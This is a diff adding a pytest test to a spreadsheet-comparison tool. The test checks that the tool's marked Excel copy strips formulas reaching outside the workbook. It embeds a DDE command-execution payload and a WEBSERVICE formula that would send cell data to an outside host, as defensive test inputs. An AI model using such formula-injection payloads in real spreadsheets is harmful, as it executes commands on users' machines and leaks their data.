@@ -293,6 +293,21 @@ def test_marked_copy(tmp_path: Path, comparison: Any, new_file: Path) -> None:
     assert listing.max_row == 3 + len(comparison.changes)
 
 
+def test_marked_copy_runs_nothing(tmp_path: Path, base_rows: list[dict[str, Any]]) -> None:
+    """Formulas reaching outside the workbook lose the formula in the copy (as check --mark's
+    copy); ordinary formulas stay."""
+    rows = [dict(r) for r in base_rows]
+    rows[0]["备注"] = "=cmd|'/c calc'!A1"
+    rows[1]["备注"] = '=WEBSERVICE("http://example.com/"&A1)'
+    rows[2]["备注"] = "=1+1"
+    old = write_version(tmp_path / "上期.xlsx", base_rows)
+    new = write_version(tmp_path / "本期.xlsx", rows)
+    out = write_marked_copy(compare_files(old, new, today=TODAY), tmp_path / "对比.xlsx")
+    ws = openpyxl.load_workbook(out)["整改台账"]
+    col = list(base_rows[0]).index("备注") + 1
+    assert [ws.cell(r, col).value for r in (2, 3, 4)] == [None, None, "=1+1"]
+
+
 def test_cli_mark_refuses_to_overwrite(tmp_path: Path, old_file: Path, new_file: Path) -> None:
     target = tmp_path / "对比.xlsx"
     target.write_bytes(b"keep")
